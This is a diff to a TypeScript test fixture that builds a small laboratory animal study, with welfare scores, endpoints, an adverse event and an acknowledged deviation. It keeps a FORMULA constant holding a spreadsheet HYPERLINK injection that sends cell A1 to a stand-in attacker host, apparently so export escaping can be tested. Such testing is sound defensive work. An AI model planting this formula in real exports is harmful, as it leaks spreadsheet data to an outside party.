@@ -17,12 +17,18 @@ import {
   stimulated,
   weighed,
 } from '../study/bench.js';
+import { sent, type Given } from '../study/specification.js';
 
 /** What a spreadsheet would run, were it let. */
 export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click, and; see")';
 
-/** Two animals and one of everything that a file of a study shows, a correction and hostile remarks among it. */
+/** Two animals and at least one of everything that a file of a study shows, a correction and hostile remarks among it. */
 export function smallStudy(): Study {
+  return smallBench().study;
+}
+
+/** The same, to go on with. */
+export function smallBench(): Given {
   return ready()
     .and(
       stimulated(day(18, '10:00')),
@@ -46,7 +52,19 @@ export function smallStudy(): Study {
       clock: '2026-03-29T08:00:00Z',
       body: { ...enrolled('R02').body, reason: 'Sheet found' },
     })
-    .and(excluded(day(27), 'R02')).study;
+    .and(excluded(day(27), 'R02'))
+    .and(
+      because('Sheet found', at(day(21), about('R01', 'DesignateSubEffectiveDose', { evidence: [13] }))),
+      at(day(28), about('R02', 'ReportAdverseEvent')),
+      at(day(28), about('R02', 'RecordIntervention', { because: 24 })),
+      at(day(28, '11:00'), about('R02', 'ScoreWelfare', { scores: [{ item: 'autotomy', score: 3 }] })),
+      at(day(28, '11:00'), about('R02', 'DecideEndpoint', { endpoint: 'autotomy', reachedBy: 26 })),
+      at(day(29), about('R02', 'RecordFate')),
+      because('Never above 2', at(day(29), about('R01', 'AssessSeverity'))),
+      sent('AcknowledgeDeviation', {
+        data: { target: { number: 21 }, assessment: 'Sheet mislaid', impact: 'minor' },
+      }),
+    );
 }
 
 export function sourceOf(study: Study, simulated = false): OutputSource {
